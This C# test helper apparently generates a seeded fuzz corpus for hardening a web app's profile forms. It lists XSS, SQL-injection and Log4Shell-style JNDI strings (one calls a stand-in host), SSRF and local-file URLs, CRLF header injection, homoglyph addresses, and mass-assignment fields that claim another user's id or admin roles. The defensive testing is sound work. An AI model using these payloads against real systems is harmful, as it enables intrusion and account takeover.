using System.Text;

namespace Profiles.Web.Tests.Hardening;

/// <summary>Hostile form values, generated from a seed: markup and script, long strings, control characters, lone surrogates,
/// bidirectional overrides, homoglyph addresses, header injection, dangerous URLs, out-of-range numbers and dates, injection
/// strings for other languages, another user's ids.</summary>
public static class FuzzCorpus
{
    /// <summary>Another demo user's id (Bob), for "another user's ids in any field or route".</summary>
    public const string OtherUserId = "auth0|64b97a87b6c808c6f9cc0002";

    /// <summary>The values every form field gets, long ones excluded (see <see cref="Long"/>).</summary>
    public static IReadOnlyList<string> Values(int seed)
    {
        var random = new Random(seed);
        var values = new List<string>
        {
            "<script>alert('fz')</script>", "\"><fz-img src=x onerror=alert(1)>", "'><fz-svg onload=alert(1)>", "</textarea><fz-b>bold</fz-b>",
            "<fz-a href=\"javascript:alert(1)\">x</fz-a>", "<!--<fz-comment>-->", "<fz-iframe srcdoc=\"<script>alert(1)</script>\">",
            "\" autofocus onfocus=\"alert('fz')", "{{7*7}}<fz-t>", "${jndi:ldap://fz.example/a}", "%s%s%s%n", "{0}{1}",
            "' OR '1'='1' --", "\"; DROP TABLE users; --", "{\"$set\":{\"app_metadata\":{\"roles\":[\"admin\"]}}}",
            "\u0000", "a\u0000b", "bell\u0007", "esc\u001b[2J", "back\u0008space", "del\u007f", "nel\u0085", "vt\u000bff\u000c",
            "\ud800", "lone\udfffend", "\udc00\ud800",
            "\u202eevil\u202c", "admin\u202egpj.exe", "\u200b\u200b", "\ufeffbom", "Z\u0334\u0321\u031ba\u0337l\u0336g\u0338o",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66",
            "\u0430lice@example.com", "alice@ex\u0430mple.com", "\uff41lice@example.com", "alice@example.com\u200b", "alice@example.com\r\nBcc: fz@example.com",
            "x\r\nSet-Cookie: fz=1", "line1\nline2", "%0d%0aLocation: https://fz.example", "a\rb",
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
            "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/",
            "https://127.0.0.1/a.png", "https://localhost:5301/api/v2/users", "http://[::1]/", "//fz.example/a.png", "https://fz.example/\u0000.png",
            "https://user:pw@fz.example/a.png", "vbscript:msgbox(1)",
            "-1", "0", "-0", "1e309", "NaN", "Infinity", "99999999999999999999999", "0x7fffffff", "2147483648", "-2147483649",
            "0001-01-01", "9999-12-31", "2026-02-30", "1900-13-01", "2026-12-01T25:61:61Z", "now",
            OtherUserId, "auth0|64b97a87b6c808c6f9cc0001", "google-oauth2|1", "../../users/" + OtherUserId, "%2e%2e%2f",
            "", " ", "\t", "\u00a0", "true", "false", "null", "[]", "{}",
        };
        values.Add(new string('a', 1024));
        values.Add(Random(random, 4096));
        return values;
    }

    /// <summary>A few very long values (up to 1 MB): sent to a few fields only.</summary>
    public static IReadOnlyList<string> Long(int seed)
    {
        var random = new Random(seed);
        return [new string('x', 64 * 1024), Random(random, 256 * 1024), new string('<', 1024 * 1024)];
    }

    /// <summary>Form fields nobody declared: dotted, <c>$</c>, prototype and metadata keys, another user's id.</summary>
    public static IReadOnlyList<KeyValuePair<string, string>> UndeclaredFields =>
    [
        new("userId", OtherUserId), new("Input.UserId", OtherUserId), new("sub", OtherUserId), new("user_id", OtherUserId),
        new("app_metadata[roles]", "admin"), new("Values[app_metadata]", "{\"roles\":[\"admin\"]}"), new("Values[a.b]", "x"),
        new("Values[$where]", "1"), new("Values[__proto__]", "x"), new("Values[constructor][prototype]", "x"), new("$set", "x"),
        new("Input.Email", "fz@example.com"), new("email_verified", "true"), new("Input.EmailVerified", "true"),
    ];

    /// <summary>URL-encodes a form the way a browser would, except that lone surrogates go out as their (invalid) three bytes
    /// instead of being replaced, so the server sees them.</summary>
    public static string Encode(IEnumerable<KeyValuePair<string, string>> fields) =>
        string.Join("&", fields.Select(f => Escape(f.Key) + "=" + Escape(f.Value)));

    private static string Escape(string value)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < value.Length; i++)
        {
            var c = value[i];
            byte[] bytes;
            if (char.IsHighSurrogate(c) && i + 1 < value.Length && char.IsLowSurrogate(value[i + 1]))
            {
                bytes = Encoding.UTF8.GetBytes(value.Substring(i++, 2));
            }
            else if (char.IsSurrogate(c))
            {
                bytes = [(byte)(0xE0 | (c >> 12)), (byte)(0x80 | ((c >> 6) & 0x3F)), (byte)(0x80 | (c & 0x3F))];
            }
            else if (char.IsAsciiLetterOrDigit(c) || c is '-' or '_' or '.' or '~')
            {
                builder.Append(c);
                continue;
            }
            else
            {
                bytes = Encoding.UTF8.GetBytes(c.ToString());
            }

            foreach (var b in bytes)
            {
                builder.Append('%').Append(b.ToString("X2", System.Globalization.CultureInfo.InvariantCulture));
            }
        }

        return builder.ToString();
    }

    private static string Random(Random random, int length)
    {
        const string alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 <>\"'&;/\\=%éüß中文";
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = alphabet[random.Next(alphabet.Length)];
        }

        return new string(chars);
    }
}
